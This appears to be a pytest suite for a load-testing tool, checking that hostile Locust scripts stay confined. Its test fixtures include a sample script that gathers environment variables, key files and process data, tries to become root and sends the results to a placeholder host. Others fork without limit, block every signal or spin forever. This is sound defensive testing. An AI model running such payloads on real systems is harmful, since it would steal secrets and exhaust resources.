"""Locustfiles that mean harm: what they get, that nothing of them stays, and that an ordinary user is safe as well."""

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import unquote

import pytest

from loadtests.conductor import conduct
from loadtests.engines import Stopped, unconfined
from loadtests.generators import Generators
from tests.loadtests.code import HEAD, LOOKS, NAMED, SOAK, doing, ordered, running, stays
from tests.loadtests.conftest import Target
from tests.loadtests.test_engine import driving, go, quiet

pytestmark = pytest.mark.slow
HERE = Path(__file__).parent.parent.parent


# -- what a hostile one gets


HOSTILE = doing(
    "pass",
    """
import ctypes, json, os, platform, socket, urllib.request
libc, control = ctypes.CDLL(None, use_errno=True), 250 if platform.machine() == "x86_64" else 219
from urllib.parse import quote
def tried(call):
    try:
        return str(call())[:300]
    except BaseException as error:
        return f"!{type(error).__name__}"
def read(path):
    return tried(lambda: open(path, "rb").read(4000))
def reach(host, port, kind=socket.AF_INET):
    return tried(lambda: socket.create_connection((host, port), 1) and "reached")
found = {
    "environment": dict(os.environ),
    "first": read("/proc/1/environ"),
    "processes": sorted(int(one) for one in os.listdir("/proc") if one.isdigit()),
    "user": [os.getuid(), os.geteuid(), os.getgid(), os.getgroups()],
    "privileges": [line.split()[1] for line in open("/proc/self/status") if line[:6] in ("CapEff", "CapPrm", "NoNewP")],
    "become_root": tried(lambda: os.setuid(0)),
    "key": read("KEY"),
    "key_by_first": read("/proc/1/root" + "KEY"),
    "listed": {path: tried(lambda: os.listdir(path)) for path in ("/root", "/home", "/var/lib", "/tmp", "FOLDER")},
    "written": [tried(lambda: open(path, "w")) for path in ("CODE/x", "/etc/hosts", "/x")],
    "devices": sorted(os.listdir("/dev")),
    "interfaces": [name for _, name in socket.if_nameindex()],
    "neighbour": [reach("127.0.0.1", NEIGHBOUR), reach("localhost", NEIGHBOUR)],
    "outside": [reach("OUTSIDE", NEIGHBOUR), reach("10.255.255.1", 80), reach("example.com", 80)],
    "unix": tried(lambda: socket.socket(socket.AF_UNIX).connect("\\0SECRET")),
    "database": reach("127.0.0.1", 5432),
    "host": tried(lambda: socket.socket(40, socket.SOCK_STREAM)),
    "keys": tried(lambda: os.strerror(ctypes.get_errno()) if libc.syscall(control, 0, -3, 0) < 0 else "keys"),
    "folder": os.getcwd(),
    "open": sorted(os.listdir("/proc/self/fd"))[:3],
}
urllib.request.urlopen("URL/found?" + quote(json.dumps(found)), timeout=5).read()
""",
)


@contextmanager
def listening(address):
    """A service that counts who connects to it."""
    came = []
    with socket.create_server(address) as server:
        server.settimeout(0.1)
        over = threading.Event()

        def accept():
            while not over.is_set():
                try:
                    came.append(server.accept())
                except TimeoutError:
                    continue

        thread = threading.Thread(target=accept)
        thread.start()
        yield server.getsockname()[1], came
        over.set()
        thread.join()


@contextmanager
def hearing():
    """A target that keeps the request lines that it gets."""
    asked = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        over = threading.Event()

        def serve():
            while not over.is_set():
                try:
                    line, _ = server.accept()
                except TimeoutError:
                    continue
                asked.append(line.recv(65536).split(b"\r\n")[0].decode())
                line.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                line.close()

        thread = threading.Thread(target=serve)
        thread.start()
        yield server.getsockname()[1], asked
        over.set()
        thread.join()


def test_a_hostile_one_gets_no_environment_no_key_no_database_no_neighbour_and_no_outside(tmp_path, monkeypatch):

    monkeypatch.setenv("CLOUDCTL_DATABASE_URL", "postgresql://app:geheim@127.0.0.1/cloudctl")
    monkeypatch.setenv("CLOUDCTL_SECRET_KEY_FILE", str(tmp_path / "secret.key"))
    key = tmp_path / "secret.key"
    key.write_text("geheim" * 6)
    key.chmod(0o644)
    own = socket.gethostbyname(socket.gethostname())
    with (
        hearing() as (port, asked),
        listening(("0.0.0.0", 0)) as (neighbour, came),
        socket.socket(socket.AF_UNIX) as un,
    ):
        un.bind("\0geheim-service")
        un.listen()
        text = HOSTILE
        for name, value in {
            "KEY": str(key),
            "FOLDER": str(tmp_path),
            "CODE": str(HERE / "loadtests"),
            "NEIGHBOUR": str(neighbour),
            "OUTSIDE": own,
            "SECRET": "geheim-service",
            "URL": f"http://127.0.0.1:{port}",
        }.items():
            text = text.replace(name, value)
        there = Target(f"http://127.0.0.1:{port}", port)
        conduct(ordered(there, text, {"kind": "smoke", "rate": 1, "seconds": 1}, calm=1), quiet, go)
    found = json.loads(unquote(next(line for line in asked if "/found?" in line).split("?", 1)[1].rsplit(" ", 1)[0]))
    assert "geheim" not in json.dumps(found)
    assert set(found["environment"]) <= {"PATH", "LANG", "HOME", "LC_CTYPE"}
    assert found["first"].startswith("!")
    assert found["processes"] == [1, 2]
    assert found["user"] == ([60600] * 3 + [[]] if os.geteuid() == 0 else [os.getuid()] * 2 + found["user"][2:])
    assert set(found["privileges"]) == {"0" * 16, "1"}
    assert found["become_root"] == "!PermissionError"
    assert [found["key"], found["key_by_first"]] == ["!FileNotFoundError", "!PermissionError"]
    checkout = [HERE.relative_to("/tmp").parts[0]] if HERE.is_relative_to("/tmp") else []
    assert found["listed"]["/tmp"] == str(checkout)
    assert {found["listed"][one] for one in ("/home", "/var/lib", str(tmp_path))} == {"!FileNotFoundError"}
    assert all(one.startswith("!") for one in found["written"])
    assert found["devices"] == ["full", "null", "random", "urandom", "zero"]
    assert found["interfaces"] == ["lo"]
    assert all(
        one.startswith("!") for one in (*found["neighbour"], *found["outside"], found["unix"], found["database"])
    )
    assert (found["host"], found["keys"]) == ("!OSError", "Function not implemented")
    assert found["folder"] == "/tmp"
    assert came == []


# -- an end


STUBBORN = doing(
    """
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
self.client.get("/")
for _ in range(6):
    if os.fork() == 0:
        os.setsid()
        be("MARKER")
        while True:
            pass
be("MARKER")
while True:
    pass
""",
    "import os, signal" + NAMED,
)


@pytest.fixture
def marker() -> str:
    return f"lf{os.urandom(5).hex()}"


def test_one_that_spins_forks_and_blocks_every_signal_is_lost_and_gone(target, marker):
    there = target("instant")
    began = time.monotonic()
    result = conduct(ordered(there, STUBBORN.replace("MARKER", marker), {"kind": "soak", "rate": 5}), quiet, go)
    assert (result.outcome, result.reasons[0].slug) == ("invalid", "engine-lost")
    assert time.monotonic() - began < 20
    assert not stays(marker, 0.5)


def test_one_that_forks_without_end_gets_few_processes(target, marker):
    there = target("instant")
    text = doing(
        f"""
self.client.get("/0")
if not next(turns, False):
    return  # one visitor forks: another would count again what was ended meanwhile
count = 0
try:
    while True:
        if os.fork() == 0:
            be("{marker}")
            signal.pause()  # Locust's own sleep would have it play the whole engine
        count += 1
except OSError:
    self.client.get(f"/{{count}}")
""",
        "import os, signal\nturns = iter([True])" + NAMED,
    )

    def forked() -> int:
        return sum(int(path[1:]) for path in there.told()["paths"])

    order = ordered(there, text, {"kind": "soak", "rate": 2, "seconds": 60}, calm=1)
    conduct(order, quiet, lambda: "run-stopped" if forked() else None)
    assert 0 < forked() <= 64
    assert not stays(marker, 0.5)


def test_one_that_never_comes_up_does_not_keep_a_stop_waiting(target, marker):
    text = f'{HEAD}{NAMED}\nbe("{marker}")\nwhile True:\n    pass\nclass Visitor(FastHttpUser):\n    tasks = [print]\n'
    moment = time.monotonic() + 4
    result = conduct(ordered(target("instant"), text), quiet, lambda: "stopped" if time.monotonic() > moment else None)
    assert (result.outcome, result.reasons[0].slug) == ("aborted", "stopped")
    assert time.monotonic() < moment + 5
    assert not stays(marker, 0.5)


def test_stop_ends_it_on_a_hung_target_within_five_seconds(target):
    there, moment = target("instant"), time.monotonic() + 4
    order = ordered(there, LOOKS, {"kind": "soak", "rate": 50, "seconds": 60}, level={"latency_ms": 60_000})
    there.do(hang=1)
    result = conduct(order, quiet, lambda: "stopped" if time.monotonic() > moment else None)
    assert (result.outcome, result.reasons[0].slug) == ("aborted", "stopped")
    assert time.monotonic() < moment + 5
    assert there.told()["last"] < moment + 1


@pytest.mark.measures
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM])
@pytest.mark.parametrize("hangs", [False, True])
def test_with_the_driver_everything_ends(target, number, hangs, marker, tmp_path):
    """A task that asks and asks, and forks a child that spins: at most five requests more, none after a second."""
    there = target("instant")
    body = f"""
if not os.path.exists("/tmp/forked"):
    open("/tmp/forked", "w").close()
    if os.fork() == 0:
        be("{marker}")
        while True:
            pass
self.client.get("/")
"""
    order = ordered(there, doing(body, "import os" + NAMED), {"kind": "soak", "rate": 100, "seconds": 60})
    order = order.model_copy(update={"level": order.level.model_copy(update={"latency_ms": 60_000})})
    driver = driving(there, order, env={**os.environ, "TMPDIR": str(tmp_path)})
    assert running(marker)
    there.do(hang=int(hangs))
    driver.send_signal(number)
    driver.wait()
    ended, came = time.monotonic(), there.told()["came"]
    assert not stays(marker, 5)
    time.sleep(max(0.0, ended + 2 - time.monotonic()))
    told = there.told()
    assert list(tmp_path.iterdir()) == []
    assert told["came"] - came <= 5
    assert told["last"] < ended + 1


def test_with_the_warden_everything_inside_ends(target, marker):
    there = target("instant")
    order = ordered(there, STUBBORN.replace("MARKER", marker), {"kind": "soak", "rate": 20, "seconds": 20})
    with Generators(order, quiet, go) as generators:
        engine = generators._engines[0]
        generators._follow([(generators.clock, 20.0)])
        until = time.monotonic() + 10
        while not running(marker):
            assert time.monotonic() < until
            time.sleep(0.02)
        os.kill(engine._process.pid, signal.SIGKILL)
        assert not stays(marker, 2)
        with pytest.raises(Stopped, match="engine-lost"):
            generators._sleep()
    assert there.told()["came"] < 20


@pytest.mark.parametrize(
    "lie",
    [
        "os.write(fd, b'{}\\n')",
        "os.write(fd, b'x' * 2**20)",
        "os.write(fd, b'x' * 100 + b'\\n')",
        "[os.write(fd, b'{\"clock\": 1.0}\\n') for _ in range(99)]",
    ],
)
def test_what_is_no_report_is_not_passed_on_and_ends_it(target, lie):
    text = doing(
        f"for fd in range(1, 12):\n    try:\n        {lie}\n    except OSError:\n        pass\nself.client.get('/')",
        "import os",
    )
    result = conduct(ordered(target("instant"), text), quiet, go)
    assert (result.outcome, result.reasons[0].slug) == ("invalid", "engine-lost")


# -- as an ordinary user


def ordinary(words: list[str]) -> list[str]:
    """What to run as root to have it run as an ordinary user, who can read Python and this folder wherever they lie."""
    wanted = sorted({Path(sys.base_prefix), Path(sys.prefix), HERE})
    closed = {one: [up for up in one.parents if up.stat().st_mode & 0o005 != 0o005] for one in wanted}
    hidden = {one: f"/run/{number}" for number, one in enumerate(wanted) if closed[one]}
    lines = ["mount -t tmpfs t /run"]
    lines += [f"mkdir {kept}; mount --bind {one} {kept}" for one, kept in hidden.items()]
    lines += [f"mount -t tmpfs -o mode=755 t {up}" for up in sorted({closed[one][-1] for one in hidden})]
    lines += [f"mkdir -p {one}; mount --bind {kept} {one}" for one, kept in hidden.items()]
    lines += [f"cd {HERE}", 'exec setpriv --reuid 54321 --regid 54321 --clear-groups "$@"']
    return ["unshare", "-m", "sh", "-ec", "\n".join(lines), "-", *words]


TELLS = """
import sys
from loadtests.conductor import conduct
from loadtests.orders import Order
result = conduct(Order.model_validate_json(sys.stdin.read()), lambda progress: None, lambda: None)
print(result.model_dump_json(include={"outcome", "good", "reasons"}))
"""
FORBIDDEN = """
import ctypes, struct
ctypes.CDLL(None).prctl(38, 1, 0, 0, 0)
number = {"x86_64": 272, "aarch64": 97, "loongarch64": 97}[__import__("platform").machine()]
rules = [(0x20, 0, 0, 0), (0x15, 0, 1, number), (0x06, 0, 0, 0x50001), (0x06, 0, 0, 0x7FFF0000)]
code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *rule) for rule in rules))
program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", len(rules), ctypes.addressof(code)))
assert ctypes.CDLL(None).prctl(22, 2, program, 0, 0) == 0
"""
AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="only root can be somebody else")


def told(order, code) -> dict:
    environment = {"PATH": os.environ["PATH"], "TMPDIR": "/tmp", "HOME": "/tmp"}
    words, given = ordinary([sys.executable, "-c", code]), order.model_dump_json().encode()
    out = subprocess.run(words, input=given, stdout=subprocess.PIPE, env=environment, timeout=60, check=True).stdout
    return json.loads(out)


@AS_ROOT
def test_an_ordinary_user_confines_it_as_well(target):
    there = target("instant")
    text = doing(
        "self.client.get(f'/{os.getuid()}/{seen}')",
        """
import os
seen = sum(map(os.path.exists, ("/home", "/var", "/sys/class", "/srv"))) + (os.listdir("/proc").count("3"))
for path in ("/proc/1/environ", "/proc/1/root/etc/passwd"):
    try:
        seen += len(open(path).read())
    except OSError:
        pass
""",
    )
    result = told(ordered(there, text), TELLS)
    reasons = [why["slug"] for why in result["reasons"]]
    assert result["good"], result
    assert result["outcome"] in ("pass", "likely") or reasons == ["generator-late"], result  # a busy machine
    assert list(there.told()["paths"]) == ["/54321/0"]


@AS_ROOT
def test_where_the_kernel_gives_no_namespaces_nothing_runs(target):
    there = target("instant")
    result = told(ordered(there, LOOKS), FORBIDDEN + TELLS)
    assert (result["outcome"], result["reasons"][0]["slug"]) == ("invalid", "locustfile-unconfined")
    assert "unshare" in result["reasons"][0]["figures"]["because"]
    assert there.told()["came"] == 0


def test_whether_it_can_be_confined_is_known_before(target):
    there = target("instant")
    assert unconfined(ordered(there, LOOKS)) is None
    assert unconfined(there.order(SOAK)) is None
